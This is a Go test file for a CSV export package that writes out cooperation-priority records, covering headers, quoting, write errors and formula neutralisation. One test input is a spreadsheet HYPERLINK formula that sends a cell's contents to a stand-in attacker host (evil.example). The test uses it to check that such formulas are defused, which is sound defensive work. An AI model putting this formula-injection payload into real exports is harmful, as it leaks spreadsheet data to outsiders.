package export

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/puente-dev/puente/pipeline"
)

// writeCSV writes the header and ps, and reads the result back with
// encoding/csv.
func writeCSV(t *testing.T, ps ...*pipeline.Priority) (string, [][]string) {
	t.Helper()
	var buf bytes.Buffer
	c := NewCSV(&buf)
	if err := c.Header(); err != nil {
		t.Fatal(err)
	}
	for _, p := range ps {
		if err := c.Write(p); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatalf("read back: %v\n%s", err, buf.String())
	}
	return buf.String(), rows
}

// column is the value of column name in row.
func column(t *testing.T, row []string, name string) string {
	t.Helper()
	for i, c := range csvColumns {
		if c == name {
			return row[i]
		}
	}
	t.Fatalf("no column %q", name)
	return ""
}

func TestCSVHeader(t *testing.T) {
	t.Parallel()
	raw, rows := writeCSV(t)
	want := "id,ref,session_id,title,description,theme,pillar,countries,institution,urgency,sensitivity," +
		"stage,assignee,overdue,due_at,version,submitted_by,created_at,updated_at,plan_actions,plan_budget_eur," +
		"partner,eu_agencies,delivery_stage,confirmed_start,confirmed_end,place,actual_cost_eur," +
		"participants_women,participants_men,participants_other,report_validated,closed_at\r\n"
	if raw != want {
		t.Errorf("header\n%q, want\n%q", raw, want)
	}
	if len(rows) != 1 || len(rows[0]) != 33 {
		t.Errorf("rows %q", rows)
	}
}

func TestCSVRowRoundTrips(t *testing.T) {
	t.Parallel()
	due := time.Date(2025, 3, 10, 12, 0, 0, 0, time.FixedZone("COT", -5*3600))
	p := approved("PE-2025-0001", "money_laundering", "PE", "CO", "EC")
	p.SessionID = "5f1c1b0e-3c55-4f9e-8a55-1d1c8a7f0002"
	p.Assignee = "expert-7"
	p.SubmittedBy = "focal-pe"
	p.Overdue = true
	p.DueAt = &due
	p.Plan.Actions = append(p.Plan.Actions, pipeline.Action{Title: "Taller", BudgetEUR: pipeline.Cents(10)}, pipeline.Action{Title: "Guía", BudgetEUR: pipeline.Cents(20)})

	raw, rows := writeCSV(t, p)
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	want := []string{
		p.ID, "PE-2025-0001", p.SessionID, p.Title, p.Description, "money_laundering", "police", "PE;CO;EC",
		"Unidad de Inteligencia Financiera", "high", "public", "approved", "expert-7", "true",
		"2025-03-10T17:00:00Z", "9", "focal-pe", "2024-12-16T16:30:00Z", "2025-02-14T16:30:00Z", "3", "45000.30",
		"", "", "", "", "", "", "", "", "", "", "", "", // no support actions given: no delivery
	}
	if strings.Join(rows[1], "\x00") != strings.Join(want, "\x00") {
		t.Errorf("row\n%q, want\n%q", rows[1], want)
	}
	if !strings.HasSuffix(raw, "45000.30,,,,,,,,,,,,\r\n") || strings.Count(raw, "\r\n") != 2 {
		t.Errorf("line ends: %q", raw)
	}
}

func TestCSVWithoutPlanOrDates(t *testing.T) {
	t.Parallel()
	p := approved("MX-2025-0004", "cybercrime", "MX")
	p.Plan, p.CreatedAt, p.UpdatedAt = nil, time.Time{}, time.Time{}
	_, rows := writeCSV(t, p)
	for name, want := range map[string]string{
		"plan_actions": "0", "plan_budget_eur": "", "due_at": "", "created_at": "", "updated_at": "", "overdue": "false",
	} {
		if got := column(t, rows[1], name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if err := NewCSV(&bytes.Buffer{}).Write(nil); err == nil {
		t.Error("nil priority written")
	}
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"Clic")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Clic")`},
		{"+1", "'+1"},
		{"-2", "'-2"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"Lavado de activos = delito", "Lavado de activos = delito"},
		{"'ya citado", "'ya citado"},
		{"", ""},
	} {
		p := approved("PE-2025-0001", "money_laundering", "PE")
		p.Title, p.Description, p.Institution, p.SubmittedBy = tc.in, tc.in, tc.in, tc.in
		p.Countries = []string{strings.TrimPrefix(tc.in, "'")}
		_, rows := writeCSV(t, p)
		for _, name := range []string{"title", "description", "institution", "submitted_by"} {
			got := column(t, rows[1], name)
			// The reader turns the carriage return the CRLF writer keeps into nothing.
			if want := strings.ReplaceAll(tc.want, "\r", ""); got != want && got != tc.want {
				t.Errorf("%s of %q = %q, want %q", name, tc.in, got, tc.want)
			}
		}
		// The countries hold the same text, its own quote taken off: the
		// same neutralised cell, but for the already quoted case.
		want := tc.want
		if tc.in == "'ya citado" {
			want = "ya citado"
		}
		if got := column(t, rows[1], "countries"); got != strings.ReplaceAll(want, "\r", "") {
			t.Errorf("countries of %q = %q, want %q", tc.in, got, want)
		}
		if column(t, rows[1], "version") != "9" || column(t, rows[1], "plan_budget_eur") != "45000.00" {
			t.Errorf("numbers changed: %q", rows[1])
		}
	}
}

func TestCSVQuoting(t *testing.T) {
	t.Parallel()
	p := approved("PE-2025-0001", "money_laundering", "PE")
	p.Title = `Intercambio "seguro", UE–CELAC`
	p.Description = "Primera línea, con coma\nsegunda \"citada\"\r\ntercera"
	raw, rows := writeCSV(t, p)
	if !strings.Contains(raw, `,"Intercambio ""seguro"", UE–CELAC",`) {
		t.Errorf("title not quoted in %q", raw)
	}
	if !strings.Contains(raw, "\"Primera línea, con coma\r\nsegunda \"\"citada\"\"\r\ntercera\"") {
		t.Errorf("description not quoted in %q", raw)
	}
	if got := column(t, rows[1], "title"); got != p.Title {
		t.Errorf("title %q", got)
	}
	if got, want := column(t, rows[1], "description"), "Primera línea, con coma\nsegunda \"citada\"\ntercera"; got != want {
		t.Errorf("description %q, want %q", got, want)
	}
	if strings.Count(raw, "\n") != strings.Count(raw, "\r\n") {
		t.Errorf("a bare LF in %q", raw)
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteErrors(t *testing.T) {
	t.Parallel()
	c := NewCSV(failingWriter{})
	if err := c.Header(); err != nil {
		t.Fatal(err) // buffered
	}
	if err := c.Flush(); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("CSV Flush: %v", err)
	}

	x := NewIATI(failingWriter{}, IATIOptions{})
	if err := x.Write(activities()[0]); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("IATI Write: %v", err)
	}
	if err := x.Close(); err == nil {
		t.Error("IATI Close after a failed write succeeded")
	}
}
